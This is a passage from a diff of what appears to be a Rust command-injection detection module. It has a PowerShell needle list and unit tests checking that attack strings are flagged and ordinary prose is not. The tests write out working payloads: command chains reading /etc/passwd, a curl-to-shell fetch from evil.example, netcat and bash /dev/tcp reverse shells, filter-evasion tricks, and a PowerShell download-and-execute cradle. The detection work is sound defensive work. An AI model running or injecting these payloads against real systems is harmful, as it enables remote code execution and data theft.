+        "|iex",
+        "powershell -e ",
+        "powershell.exe -e",
+        "add-mppreference",
+        "get-content c:",
+        "invoke-item",
+    ]);
+    if let Some((p, needle)) = NEEDLES_2.find_iter(lower).next() {
+        sink.report(
+            &rules::RCE_POWERSHELL,
+            lower,
+            p..(p + needle.len() + 16).min(lower.len()),
+        );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::tests::{assert_clean, assert_detects};
+
+    #[test]
+    fn command_injections() {
+        assert_detects(";id", "rce.command_chain");
+        assert_detects("|id|", "rce.command_chain");
+        assert_detects("a;/usr/bin/id;", "rce.shell_path");
+        assert_detects("127.0.0.1; cat /etc/passwd", "rce.command_chain");
+        assert_detects(
+            "x && curl http://evil.example/x.sh | sh",
+            "rce.command_chain",
+        );
+        assert_detects("$(whoami)", "rce.substitution");
+        assert_detects("`id`", "rce.substitution");
+        assert_detects("x=`uname -a`", "rce.substitution");
+        assert_detects(";c''at /etc/passwd", "rce.evasion");
+        assert_detects(";w\"h\"oami", "rce.evasion");
+        assert_detects("cat${IFS}/etc/passwd", "rce.evasion");
+        assert_detects(";{cat,/etc/passwd}", "rce.evasion");
+        assert_detects(";/???/c?t /???/p??s??", "rce.evasion");
+        assert_detects("uname -a", "rce.unix_command");
+        assert_detects("nc -lvvp 4444 -e /bin/sh", "rce.reverse_shell");
+        assert_detects(
+            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+            "rce.reverse_shell",
+        );
+        assert_detects("& ipconfig /all", "rce.windows_command");
+        assert_detects("| net user", "rce.windows_command");
+        assert_detects("type C:\\Windows\\win.ini", "rce.windows_command");
+        assert_detects(
+            "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://x')\"",
+            "rce.powershell",
+        );
+        assert_detects("%0Aid", "rce.command_chain");
+        assert_detects("; sleep 10", "rce.command_chain");
+    }
+
+    #[test]
+    fn prose_passes() {
+        for benign in [
+            "cat food & dog toys",
+            "rm 101 key",
+            "Tom & Jerry",
+            "R&D department; more info later",
+            "Great product; more please",
+            "| Name | id | Age |",
+            "Run `npm test` before pushing",
+            "sleep 8 hours a day",
+            "ping me when you're ready",
+            "Find the nearest store",
+            "echo chamber",
+            "Salt & pepper; date night",
+            "She said: \"set the table\"",
+            "A/B testing (phase 2)",
+            "id 12345",
+        ] {
+            assert_clean(benign);
+        }
+    }
+}
